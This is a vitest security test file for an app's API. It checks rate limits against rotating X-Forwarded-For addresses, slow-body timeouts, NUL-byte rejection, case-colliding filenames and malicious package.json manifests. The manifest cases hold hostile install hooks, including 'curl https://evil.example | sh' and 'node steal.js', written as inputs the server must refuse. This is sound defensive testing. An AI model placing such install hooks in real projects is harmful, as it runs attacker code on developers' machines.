// Abuse and input cases found in review, as hostile cases over real HTTP: a rotating X-Forwarded-For,
// registration and intake floods, a trickled body, NUL bytes everywhere, file names that collide on
// case-insensitive disks, package.json fields that run code on install, return paths a Location
// header cannot carry, and vendor bundles built for anyone.
import { mkdtempSync, rmSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, it } from 'vitest';
import { createTestApp, previewReturnPath, type Session, type TestApp } from '@sprout/api/testing';
import { Tally } from '@sprout/testkit/vitest';

const abuse = new Tally('abuse limits: proxies, registration, intake, slow bodies');
const input = new Tally('input: NUL, case twins, manifests, addresses, vendor builds');

let t: TestApp;
let base = '';
let person: Session;
let sproutId = '';
let version = '';
// A vendor cache of its own: nothing is built before the test asks for it.
const cacheDir = mkdtempSync(path.join(tmpdir(), 'sprout-sec-vendor-'));

beforeAll(async () => {
  t = await createTestApp({
    PREVIEW_CACHE_DIR: cacheDir,
    TRUST_PROXY: 'true',
    REGISTER_MAX_PER_IP: '3',
    REGISTER_MAX_PER_HOUR: '1000',
    INTAKE_PER_MINUTE_ANONYMOUS: '5',
    LOGIN_MAX_ATTEMPTS_PER_IP: '5',
    REQUEST_TIMEOUT_SECONDS: '1',
    LOG_LEVEL: 'warn',
  });
  base = await t.listen();
  person = await t.register();
  sproutId = (await t.api('POST', '/v1/sprouts', { token: person.idToken, body: {} })).json().id;
  version = (await t.api('GET', `/build/v1/sprouts/${sproutId}/versions`, { token: person.idToken })).json().currentVersionId;
});
afterAll(async () => {
  await t?.close();
  rmSync(cacheDir, { recursive: true, force: true });
});

const from = (ip: string) => ({ 'x-forwarded-for': `${ip}, 203.0.113.77` });

describe('abuse limits', () => {
  it('a rotating X-Forwarded-For passes neither the sign-in nor the registration limit', async () => {
    const logins: number[] = [];
    for (let i = 0; i < 8; i++) {
      logins.push(
        (await t.api('POST', '/v1/auth/login', { body: { email: `n${i}@example.com`, password: 'guess guess' }, headers: from(`10.1.${i}.1`) })).statusCode,
      );
    }
    abuse.check(
      logins.slice(5).every((s) => s === 429),
      `sign-ins with a rotating forwarded address: ${logins.join(',')}`,
    );
    const registrations: number[] = [];
    for (let i = 0; i < 6; i++) {
      const body = { email: `flood${i}-${Date.now()}@example.com`, password: 'long enough pw', displayName: 'F' };
      registrations.push((await t.api('POST', '/v1/auth/register', { body, headers: from(`10.2.${i}.1`) })).statusCode);
    }
    abuse.check(
      registrations.slice(3).every((s) => s === 429),
      `registrations with a rotating forwarded address: ${registrations.join(',')}`,
    );
    abuse.assertClean();
  });

  it('anonymous analytics: big batches and floods are refused', async () => {
    const event = (i: number) => ({
      messageId: `flood-${i}-${Date.now()}`,
      name: 'Page Viewed',
      properties: { x: 'y'.repeat(3000) },
      timestamp: new Date().toISOString(),
    });
    const big = await t.api('POST', '/v1/events', { body: { events: Array.from({ length: 50 }, (_, i) => event(i)) }, headers: from('10.3.0.1') });
    abuse.check(big.statusCode === 413, `a 50-event anonymous batch → ${big.statusCode}`);
    const statuses: number[] = [];
    for (let i = 0; i < 8; i++)
      statuses.push((await t.api('POST', '/v1/events', { body: { events: [event(100 + i)] }, headers: from('10.3.0.2') })).statusCode);
    abuse.check(
      statuses.slice(5).every((s) => s === 429),
      `anonymous events per minute: ${statuses.join(',')}`,
    );
    abuse.assertClean();
  });

  it('a body trickled in byte by byte is cut off', async () => {
    const { port } = new URL(base);
    const socket = connect(Number(port), '127.0.0.1');
    let answer = '';
    socket.on('data', (d) => (answer += d.toString()));
    const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()));
    socket.write('POST /v1/auth/login HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 500\r\n\r\n{');
    await closed;
    abuse.check(answer.startsWith('HTTP/1.1 408'), `a trickled body was answered: ${answer.slice(0, 40)}`);
    abuse.assertClean();
  });
});

describe('input', () => {
  it('NUL is refused with a 400 wherever text goes', async () => {
    const cases: [string, string, unknown][] = [
      ['PATCH', '/v1/me', { displayName: 'a\u0000b' }],
      ['POST', '/v1/sprouts', { displayName: 'x\u0000' }],
      ['PUT', `/build/v1/sprouts/${sproutId}/files`, { path: 'client/src/a.ts', content: 'x\u0000', baseVersionId: version }],
      ['POST', `/build/v1/sprouts/${sproutId}/messages`, { text: 'hi\u0000' }],
      ['POST', '/v1/events', { events: [{ messageId: 'nul-event-1', name: 'Page Viewed', properties: { k: '\u0000' }, timestamp: new Date().toISOString() }] }],
      ['POST', '/v1/monitoring/errors', { message: '\u0000' }],
    ];
    for (const [method, path, body] of cases) {
      const res = await t.api(method, path, { token: person.idToken, body });
      input.check(res.statusCode === 400, `${method} ${path} with NUL → ${res.statusCode}`);
    }
    input.assertClean();
  });

  it('files that collide on case-insensitive disks and manifests that run code on install are refused', async () => {
    const put = (path: string, content: string) =>
      t.api('PUT', `/build/v1/sprouts/${sproutId}/files`, { token: person.idToken, body: { path, content, baseVersionId: version } });
    input.check((await put('client/src/app.tsx', 'x')).statusCode === 409, 'a case twin of App.tsx was stored');
    for (const manifest of [
      { scripts: { preinstall: 'curl https://evil.example | sh' } },
      { scripts: { postinstall: 'node steal.js' } },
      { optionalDependencies: { x: 'https://evil.example/x.tgz' } },
      { overrides: { react: 'npm:evil@1.0.0' } },
      { dependencies: { react: 'git+https://evil.example/react.git' } },
    ]) {
      const res = await put('package.json', JSON.stringify({ name: 'app', ...manifest }));
      input.check(res.statusCode === 400, `package.json ${JSON.stringify(manifest)} → ${res.statusCode}`);
    }
    input.assertClean();
  });

  it('return paths a Location header cannot carry are encoded, and vendor bundles are not built for strangers', async () => {
    for (const address of ['/café', '/日本', '/a b', '/\ud800']) {
      const safe = previewReturnPath(address);
      input.check(/^[\u0021-\u007e]*$/.test(safe) && safe.startsWith('/'), `return path ${JSON.stringify(address)} → ${JSON.stringify(safe)}`);
    }
    const host = `${sproutId}.preview.localhost:3001`;
    const vendor = await t.app.inject({ method: 'GET', url: `/_sprout/vendor/${t.app.services.previews.vendor.key}/zustand.js`, headers: { host } });
    input.check(vendor.statusCode === 404, `a cookieless request made the server build a vendor file → ${vendor.statusCode}`);
    input.assertClean();
  });
});
